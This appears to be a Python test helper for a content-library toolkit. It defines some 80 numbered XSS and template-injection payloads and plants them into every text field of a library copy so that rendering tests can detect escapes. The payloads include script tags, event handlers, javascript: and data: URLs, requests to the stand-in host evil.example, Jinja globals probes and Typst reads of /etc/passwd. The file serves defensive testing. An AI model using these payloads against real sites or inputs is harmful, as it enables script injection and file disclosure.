"""Hostile texts for injection tests, and a copy of a library with one planted in every text field.

Each payload carries its number: script it manages to run calls ``__pwned(n)`` (or ``alert(n)``), and a
request it manages to make goes to ``https://evil.example/n...``, so a test that watches a page in a
browser can tell which payload got through. :data:`PAYLOADS` covers closing tags, event handlers,
``javascript:`` and ``data:`` URLs in Markdown links and images, SVG, frames, ``<meta http-equiv>``,
``<base>``, CSS ``url()``, template syntax of several engines (Jinja, JavaScript, Ruby, Typst), bidi
controls, NUL and other control characters, a very long text, HTML entities and escapes.

:func:`plant_library` copies a library and writes a payload into every text field of every entry
kind (cases, themes, questions, prompts, messages, and the labels of the taxonomy), each prefixed with
a marker (``LZ0001``) so that a test can find where each field landed, and returns where it put what.

>>> len(PAYLOADS) >= 60, len({p.number for p in PAYLOADS}) == len(PAYLOADS), traced("x __pwned(7) y")
(True, True, {7})
>>> payload(2).text
'<script>__pwned(2)</script>'
"""

from __future__ import annotations

import re
import shutil
import unicodedata
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import yaml

from toolkit.library.languages import LANGUAGE_HEADING

EVIL = "https://evil.example"
SENTINEL = "__pwned"
# What a payload that got through leaves behind: a call, a dialog, or a request carrying its number.
TRACE = re.compile(r"__pwned\((\d+)\)|alert\((\d+)\)|evil\.example/(\d+)|#lz(\d+)")


@dataclass(frozen=True)
class Payload:
    """One hostile text: its number (in its trace), its family, the text."""

    number: int
    family: str
    text: str

    @property
    def one_line(self) -> bool:
        return "\n" not in self.text and "\r" not in self.text

    @property
    def in_library(self) -> bool:
        """Whether a library file may hold it: ``lianzheng check`` refuses control characters and the
        characters YAML counts as line breaks (NEL, U+2028, U+2029), so those payloads reach handouts only
        through parameters, learner names and answers."""
        return not any(
            (unicodedata.category(c) == "Cc" and c not in "\t\n\r") or c in "\u2028\u2029" for c in self.text
        )


_LONG = "A" * 20_000


def _payloads() -> tuple[Payload, ...]:
    rows: list[tuple[str, str]] = [
        ("closing tag", f'</title><script>__pwned(1)</script><img src="{EVIL}/1.png">'),
        ("script", "<script>__pwned(2)</script>"),
        ("closing tag", "</style><script>__pwned(3)</script>"),
        ("closing tag", "</textarea><script>__pwned(4)</script>"),
        ("event handler", "<img src=x onerror=__pwned(5)>"),
        ("remote", f'<img src="{EVIL}/6.png">'),
        ("attribute", '"><img src=x onerror=__pwned(7)>'),
        ("attribute", "'><svg onload=__pwned(8)>"),
        ("svg", "<svg><script>__pwned(9)</script></svg>"),
        ("svg", "<svg/onload=__pwned(10)>"),
        ("event handler", "<body onload=__pwned(11)>"),
        ("frame", '<iframe src="javascript:__pwned(12)"></iframe>'),
        ("frame", '<iframe srcdoc="<script>parent.__pwned(13)</script>"></iframe>'),
        ("meta refresh", f'<meta http-equiv="refresh" content="0;url={EVIL}/14">'),
        ("base", f'<base href="{EVIL}/15/">'),
        ("remote", f'<link rel=stylesheet href="{EVIL}/16.css">'),
        ("css", f"<style>@import url({EVIL}/17.css);</style>"),
        ("css", f'<div style="background:url({EVIL}/18.png)">x</div>'),
        ("markdown link", "[click me](javascript:__pwned(19))"),
        ("markdown link", "[click me](JaVaScRiPt:__pwned(20))"),
        ("markdown link", "[click me](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZCgyMSk8L3NjcmlwdD4=)"),
        ("markdown image", f"![chart]({EVIL}/22.png)"),
        ("markdown image", "![x](javascript:__pwned(23))"),
        ("markdown link", "<javascript:__pwned(24)>"),
        ("markdown link", "[svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9X19wd25lZCgyNSk+)"),
        ("markdown link", "[vb](vbscript:msgbox(26))"),
        ("markdown link", "[x](&#106;avascript:__pwned(27))"),
        ("markdown link", "[x](data:image/png;base64,iVBORw0KGgo=#lz28) and [y](file:///etc/passwd#lz28)"),
        ("template", "{{ 7*7 }} {{ config }} {{ self.__init__.__globals__ }}"),
        ("template", "{% for x in range(3) %}X{% endfor %}{% raw %}"),
        ("template", "${__pwned(31)} `${alert(31)}`"),
        ("template", "#{__pwned(32)} <%= 7*7 %>"),
        ("typst", '#read("/etc/passwd")'),
        ("typst", '#eval("1+1") #import "/etc/passwd": * #image("https://evil.example/34.png")'),
        ("template", "{{constructor.constructor('__pwned(35)')()}}"),
        ("bidi", "\u202egnp.exe\u202c invoice"),
        ("bidi", "\u2066isolated\u2069 \u202bright-to-left\u202c \u200f\u200e"),
        ("control", "a\x00b<script>__pwned(38)</script>"),
        ("control", "ctl\x01\x02\x07\x08\x0b\x0c\x1b[31m\x7f\x85\x9b end"),
        ("long", _LONG + "<script>__pwned(40)</script>"),
        ("entity", "&lt;script&gt;__pwned(41)&lt;/script&gt;"),
        ("entity", "&#60;script&#62;__pwned(42)&#60;/script&#62; &amp;amp; &nbsp;"),
        ("escape", "\\u003cscript\\u003e__pwned(43)\\u003c/script\\u003e"),
        ("escape", "\\x3cscript\\x3e__pwned(44)\\x3c/script\\x3e"),
        ("escape", "%3Cscript%3E__pwned(45)%3C/script%3E"),
        ("link", '<a href="javascript:__pwned(46)">x</a>'),
        ("remote", f'<object data="{EVIL}/47.swf"></object>'),
        ("remote", f'<embed src="{EVIL}/48">'),
        ("event handler", '<video><source onerror="__pwned(49)"></video>'),
        ("event handler", "<audio src=x onerror=__pwned(50)>"),
        ("event handler", "<details open ontoggle=__pwned(51)>"),
        ("event handler", "<input autofocus onfocus=__pwned(52)>"),
        ("event handler", "<marquee onstart=__pwned(53)>m</marquee>"),
        ("link", '<form action="javascript:__pwned(54)"><button>x</button></form>'),
        ("closing tag", f"<math><mtext></title><script>__pwned(55)</script><img src={EVIL}/55.png>"),
        ("comment", "--><script>__pwned(56)</script><!--"),
        ("cdata", "<![CDATA[</p><script>__pwned(57)</script>]]>"),
        ("closing tag", "</script><script>__pwned(58)</script>"),
        ("closing tag", "</noscript></xmp></plaintext><script>__pwned(59)</script>"),
        ("filter evasion", "<scr<script>ipt>__pwned(60)</scr</script>ipt>"),
        ("remote", f"<SCRIPT SRC={EVIL}/61.js></SCRIPT>"),
        ("dialog", "<img src=x:x onerror=alert(62)>"),
        ("svg", "<svg><animate onbegin=__pwned(63) attributeName=x dur=1s>"),
        ("css", f'<style>*{{background:url("{EVIL}/64.png")}}</style>'),
        ("attribute", '" onmouseover="__pwned(65)" autofocus onfocus="__pwned(65)" x="'),
        ("attribute", "' onfocus='__pwned(66)' autofocus x='"),
        ("blank lines", "\n\n<script>__pwned(67)</script>\n\n"),
        ("markdown", "\n## Injected heading\n<img src=x onerror=__pwned(68)>\n"),
        ("document", "<!DOCTYPE html><html><head><script>__pwned(69)</script>"),
        ("line separator", "\u2028<script>__pwned(70)</script>\u2029"),
        ("math", "$\\alpha$ $$<img src=x onerror=__pwned(71)>$$ \\(x\\)"),
        ("event handler", "<x onclick=__pwned(72) style=display:block;position:fixed;inset:0>click</x>"),
        ("cdata", "]]><script>__pwned(73)</script>"),
        ("remote", f'<a href="{EVIL}/74" ping="{EVIL}/74p">link</a>'),
        ("css", f"@import '{EVIL}/75.css'; url({EVIL}/75.png)"),
        ("chinese", "廉政<script>__pwned(76)</script>测试「」《》"),
        ("url", "javascript:__pwned(77)"),
        ("url", "data:text/html,<script>__pwned(78)</script>"),
        ("markdown", "**bold** _em_ `code <script>__pwned(79)</script>` <b>raw</b>"),
        ("markdown", "| a | b |\n|---|---|\n| <img src=x onerror=__pwned(80)> | [x](javascript:__pwned(80)) |"),
    ]
    return tuple(Payload(number, family, text) for number, (family, text) in enumerate(rows, 1))


PAYLOADS: tuple[Payload, ...] = _payloads()


def payload(number: int) -> Payload:
    return PAYLOADS[number - 1]


def traced(text: str) -> set[int]:
    """The payload numbers whose trace (call, dialog, request) appears in ``text``."""
    return {int(next(group for group in match.groups() if group)) for match in TRACE.finditer(text)}


# --- planting ------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Planted:
    """One field of a planted library: its file, its place in the file, the marker and the payload."""

    path: str
    field: str
    marker: str
    payload: Payload

    @property
    def text(self) -> str:
        return f"{self.marker} {self.payload.text}"


@dataclass
class Planting:
    """Where :func:`plant_library` put what."""

    root: Path
    fields: list[Planted] = field(default_factory=list)

    def by_marker(self) -> dict[str, Planted]:
        return {planted.marker: planted for planted in self.fields}


# The text fields of each entry kind, by key (ids and taxonomy terms are slugs, checked, and stay).
CASE_TEXT = {"title", "summary", "role", "sector", "region", "article", "publisher", "note", "url"}
THEME_TEXT = {"title", "summary"}
QUESTION_TEXT = {"stem", "options", "explanation", "rule"}
PROMPT_TEXT = {"text"}
MESSAGE_TEXT = {"subject", "body"}
SMS_LIMIT = 300


class _Planter:
    def __init__(self, planting: Planting, start: int = 0) -> None:
        self.planting = planting
        self.count = start

    def next(self, path: str, place: str, *, one_line: bool = False, limit: int | None = None) -> str:
        """The next payload in turn (skipping those that do not fit the field), recorded and marked."""
        while True:
            candidate = PAYLOADS[self.count % len(PAYLOADS)]
            self.count += 1
            marker = f"LZ{self.count:04d}"
            fits = (
                candidate.in_library
                and (candidate.one_line or not one_line)
                and (limit is None or len(candidate.text) + 7 <= limit)
            )
            if fits:
                planted = Planted(path, place, marker, candidate)
                self.planting.fields.append(planted)
                return planted.text

    def walk(self, value: Any, keys: set[str], path: str, place: str = "", **fit: Any) -> Any:
        """``value`` with every string under one of ``keys`` replaced by a payload."""
        if isinstance(value, dict):
            return {
                key: (
                    self.texts(item, path, f"{place}.{key}".lstrip("."), **fit)
                    if key in keys
                    else self.walk(item, keys, path, f"{place}.{key}".lstrip("."), **fit)
                )
                for key, item in value.items()
            }
        if isinstance(value, list):
            return [self.walk(item, keys, path, f"{place}[{n}]", **fit) for n, item in enumerate(value)]
        return value

    def texts(self, value: Any, path: str, place: str, **fit: Any) -> Any:
        if isinstance(value, str | int) and not isinstance(value, bool):
            return self.next(path, place, **fit)
        if isinstance(value, list):
            return [self.texts(item, path, f"{place}[{n}]", **fit) for n, item in enumerate(value)]
        if isinstance(value, dict):  # labels by language
            return {key: self.texts(item, path, f"{place}.{key}", **fit) for key, item in value.items()}
        return value


def _one_language(entry: Any, kind: str, languages: list[str]) -> Any:
    """An entry in its first language alone, laid out as the loader lays out each language's text over
    the facts (``split_languages``), with ``lang`` naming that language."""
    from pydantic import BaseModel

    from toolkit.library.check import Where
    from toolkit.library.languages import split_languages
    from toolkit.library.model import CaseMeta, Message, Prompt, Question, ThemeMeta

    models: dict[str, type[BaseModel]] = {
        "cases": CaseMeta,
        "themes": ThemeMeta,
        "questions": Question,
        "prompts": Prompt,
        "messages": Message,
    }
    split = split_languages(entry, kind, models[kind].model_fields, languages, Where(kind))
    return split.data.get(languages[0], entry)


def _body_part(body: str, lang: str) -> str:
    """A body's part in ``lang`` (the whole body when it has no language parts)."""
    parts = LANGUAGE_HEADING.split(body)
    return dict(zip(parts[1::2], parts[2::2], strict=True)).get(lang, body) if len(parts) > 1 else body


def _dump(data: Any) -> str:
    return yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=1_000_000, default_flow_style=False)


def _front_matter(text: str) -> tuple[str, str]:
    _, front, body = text.split("---\n", 2)
    return front, body


def _plant_body(body: str, planter: _Planter, path: str) -> str:
    """Every paragraph line and list item of a Markdown body replaced by a one-line payload; headings stay."""
    lines: list[str] = []
    section = ""
    for line in body.splitlines():
        if line.startswith("#"):
            section = line.lstrip("#").strip()
            lines.append(line)
        elif line.strip().startswith(("- ", "* ")):
            lines.append("- " + planter.next(path, f"## {section} item", one_line=True))
        elif line[:1].isspace() and line.strip() and lines and lines[-1].startswith("- "):
            continue  # the continuation of a list item: the item holds one payload
        elif line.strip():
            lines.append(planter.next(path, f"## {section}", one_line=True))
        else:
            lines.append(line)
    return "\n".join(lines) + "\n"


def _escape_braces(text: str) -> str:
    return text.replace("{", "{{").replace("}", "}}")


def _files(root: Path, folder: str, suffix: str) -> Iterator[Path]:
    yield from sorted((root / folder).glob(f"*{suffix}"))


def plant_library(source: Path, target: Path) -> Planting:
    """Copy the library at ``source`` to ``target`` with a payload in every text field; where each went.

    Payloads are given in turn, so every one lands in several kinds of field. Markdown bodies get the
    one-line payloads (a line break would start another paragraph or section); a short message's body
    gets those that fit its length; a message's braces are doubled (literal braces, not placeholders);
    section headings stay, since the taxonomy names them. The copy is a valid library in its first
    language alone: the payloads are English-like text, which the checker refuses in Chinese text, so
    the other languages' blocks and body parts are left out.
    """
    shutil.copytree(source, target)
    planting = Planting(target)
    planter = _Planter(planting)

    taxonomy = yaml.safe_load((target / "taxonomy.yaml").read_text(encoding="utf-8"))
    languages = list(taxonomy["languages"])
    first = languages[0]
    taxonomy["languages"] = [first]
    for name, terms in taxonomy.items():
        if name == "sections" or not isinstance(terms, list | dict):
            continue
        taxonomy[name] = planter.walk(terms, {"label", "education", "emphasis"}, "taxonomy.yaml", name)
    (target / "taxonomy.yaml").write_text(_dump(taxonomy), encoding="utf-8")

    for folder, keys in (("cases", CASE_TEXT), ("themes", THEME_TEXT)):
        for file in _files(target, folder, ".md"):
            rel = file.relative_to(target).as_posix()
            front, body = _front_matter(file.read_text(encoding="utf-8"))
            meta = _one_language(yaml.safe_load(front), folder, languages)
            body = _body_part(body, first)
            meta = planter.walk(meta, keys, rel)
            file.write_text(f"---\n{_dump(meta)}---\n{_plant_body(body, planter, rel)}", encoding="utf-8")
    for folder, keys in (("questions", QUESTION_TEXT), ("prompts", PROMPT_TEXT)):
        for file in _files(target, folder, ".yaml"):
            rel = file.relative_to(target).as_posix()
            items = [
                _one_language(item, folder, languages) for item in yaml.safe_load(file.read_text(encoding="utf-8"))
            ]
            file.write_text(_dump(planter.walk(items, keys, rel)))
    for file in _files(target, "messages", ".yaml"):
        rel = file.relative_to(target).as_posix()
        data = yaml.safe_load(file.read_text(encoding="utf-8"))
        data["messages"] = [_one_language(message, "messages", languages) for message in data["messages"]]
        for n, message in enumerate(data["messages"]):
            for key in MESSAGE_TEXT & set(message):
                limit = SMS_LIMIT if message.get("channel") == "sms" and key == "body" else None
                text = planter.next(rel, f"messages[{n}].{key}", limit=limit)
                message[key] = _escape_braces(text)
        file.write_text(_dump(data), encoding="utf-8")
    return planting
